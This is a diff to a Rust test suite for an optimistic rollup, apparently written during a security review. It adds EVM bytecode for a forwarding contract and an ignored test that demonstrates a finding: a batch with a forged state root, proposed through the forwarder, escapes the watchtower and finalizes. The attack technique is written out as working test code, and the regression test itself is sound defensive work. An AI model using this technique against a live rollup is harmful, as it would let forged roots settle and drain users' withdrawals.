@@ -8,7 +8,8 @@
 
 mod common;
 
-use alloy_primitives::{Address, B256, U256};
+use alloy_consensus::Transaction as _;
+use alloy_primitives::{Address, B256, TxKind, U256};
 use alloy_signer_local::PrivateKeySigner;
 use alloy_sol_types::{SolCall, SolError};
 use common::{batches::Proposed, *};
@@ -388,4 +389,74 @@ fn optimistic_truncated_batch_defended_below_cut_settles_restored_tip_only() {
     // In: 2 proposer bonds, 2 challenger bonds. Out: a's bond slashed once (half and bob's
     // bond to bob, half burned), alice's bond to the defender, b's bond back.
     assert_eq!(env.l1_balance(env.rollup), held_before, "every wei accounted for");
+}
+
+/// Runtime of a forwarder: calls `target` with this call's value and its calldata minus
+/// the first 4 bytes, and returns or reverts with the callee's output. Proposing through
+/// it hides `propose`'s calldata behind 4 junk bytes in the transaction's own input.
+fn forwarder_code(target: Address) -> Vec<u8> {
+    let mut runtime = vec![
+        0x60, 0x04, 0x36, 0x03, // size: calldatasize - 4
+        0x60, 0x04, 0x5f, 0x37, // calldatacopy(0, 4, size)
+        0x5f, 0x5f, // retSize, retOffset
+        0x60, 0x04, 0x36, 0x03, 0x5f, // argsSize, argsOffset
+        0x34, 0x73, // callvalue, push20 target
+    ];
+    runtime.extend_from_slice(target.as_slice());
+    runtime.extend_from_slice(&[
+        0x5a, 0xf1, // gas, call
+        0x3d, 0x5f, 0x5f, 0x3e, // returndatacopy(0, 0, returndatasize)
+        0x60, 0x31, 0x57, // jumpi(ok, success)
+        0x3d, 0x5f, 0xfd, // revert(0, returndatasize)
+        0x5b, 0x3d, 0x5f, 0xf3, // ok: return(0, returndatasize)
+    ]);
+    assert_eq!(runtime.len(), 0x35);
+    let mut code = vec![0x60, 0x35, 0x80, 0x60, 0x09, 0x5f, 0x39, 0x5f, 0xf3];
+    code.extend(runtime);
+    code
+}
+
+/// Attack: propose through a contract, so that the proposing transaction's calldata is not
+/// a `propose` call. The contract accepts it (anyone may propose here), but the node's
+/// `proposals::Reader::read` (s5-node c20bf6e, crates/rollup/src/optimistic/proposals.rs,
+/// "batch not found in its transaction's calldata": `continue`) skips such a batch, and the
+/// watchtower's `judge` then has no proposal for its blocks (`Ok(None)`: the scan stops),
+/// so it never challenges them: a forged state root posted this way finalizes after the
+/// window and serves withdrawals. Safe behaviour checked here: a proposal is either
+/// refused or its blocks are the proposing transaction's own `propose` calldata.
+#[test]
+#[ignore = "finding (s5-review): a batch proposed through a contract is invisible to the watchtower; un-ignore with the fix"]
+fn optimistic_forged_batch_hidden_behind_a_forwarding_contract() {
+    let env = optimistic_env();
+    let (alice, attacker) = (env.alice.clone(), env.bob.clone());
+    let deployed =
+        env.l1_tx(&attacker, TxKind::Create, U256::ZERO, forwarder_code(env.rollup).into());
+    let forwarder = deployed.receipt.contract_address.expect("forwarder deployed");
+    let bs = blocks(&env, 1);
+    let mut forged = bs[0].0.clone();
+    forged.stateRoot = B256::repeat_byte(0xba);
+    let claims = env.claims_of(std::slice::from_ref(&forged));
+    let mut input = vec![0xde, 0xad, 0xbe, 0xef];
+    input.extend(Opt::proposeCall { blocks: vec![forged] }.abi_encode());
+    let s = env.l1_tx(&attacker, TxKind::Call(forwarder), proposer_bond(), input.into());
+    if !s.ok() {
+        return; // refused: safe
+    }
+    let b = env.proposed(s, claims, None);
+    let tx_input = b.sent.receipt.tx.input().clone();
+    let decodable = Opt::proposeCall::abi_decode(&tx_input).is_ok();
+    println!(
+        "batch {} (block {}, forged state root) proposed through {forwarder}; its \
+         transaction's input decodes as propose: {decodable}",
+        b.id, b.first
+    );
+    // Nobody who reads calldata challenges it: it finalizes with its forged root.
+    wait_past(&env, b.sent.receipt.header.timestamp + WINDOW - 1);
+    assert!(try_call(&env, &alice, Opt::finalizeCall { upTo: b.first }));
+    let root: B256 = env.l1_view(env.rollup, Opt::stateRootAtCall { number: b.first });
+    println!("settled state root of block {}: {root}", b.first);
+    assert!(
+        decodable,
+        "a proposal whose data is not its transaction's propose calldata was accepted"
+    );
 }
